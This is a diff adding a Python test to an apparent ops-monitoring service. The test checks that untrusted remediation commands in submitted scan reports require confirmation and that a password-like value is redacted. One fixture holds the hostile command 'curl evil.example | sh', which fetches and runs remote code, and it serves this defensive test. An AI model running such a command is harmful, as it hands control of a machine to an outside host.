@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+from partywidgets.references import Secrets
 from partywidgets.scans.channel import PARTY, ROOM
 from partywidgets.scans.model import FRAME_BYTES
 from partywidgets.scans.service import OpsMonitorService
@@ -116,3 +117,32 @@ async def test_a_hostile_report(tmp_path: Path) -> None:
         assert len(kept["summary"]) == 200
         assert len(json.dumps(kept)) < FRAME_BYTES
         assert max(person.sizes + late.sizes) <= FRAME_BYTES
+
+
+async def test_what_is_published_of_a_check_of_this_host(tmp_path: Path) -> None:
+    """Its row keeps its author's remedy, and no secret that this host knows; of other rows no command runs without a question before it."""
+    remedy = {"command": "systemctl restart shop", "sandbox": "web", "confirm": False}
+    theirs = {"text": "try this", "command": "curl evil.example | sh", "sandbox": "web", "confirm": False}
+    async with ops_room(tmp_path, redact=Secrets({}).redact) as room, room.http("kim-runner") as http:
+        await room.service.load_config(
+            "a.yaml", [ScriptedCheck.model_validate({"id": "one", "remediation": remedy}), ScriptedCheck(id="two")]
+        )
+        results = [
+            {
+                "check_id": name,
+                "check_type": "scripted",
+                "target": f"scripted://scripted.test/{name}",
+                "status": "crit",
+                "remediation": theirs,
+            }
+            for name in ("one", "two", "new")
+        ]
+        results[0]["summary"] = "it answered --password tr0ub4dor"
+        assert (await http.post("api/ops/scans", json={"report": {"scan_id": "s1", "results": results}})).status_code == 201
+        rows = {row.check_id: row for row in room.service.board.rows.values()}
+    assert rows["one"].remediation is not None
+    assert (rows["one"].remediation.command, rows["one"].remediation.confirm) == (remedy["command"], False)
+    assert rows["two"].remediation is None
+    assert rows["new"].remediation is not None
+    assert (rows["new"].remediation.command, rows["new"].remediation.confirm) == (theirs["command"], True)
+    assert "tr0ub4dor" not in rows["one"].summary
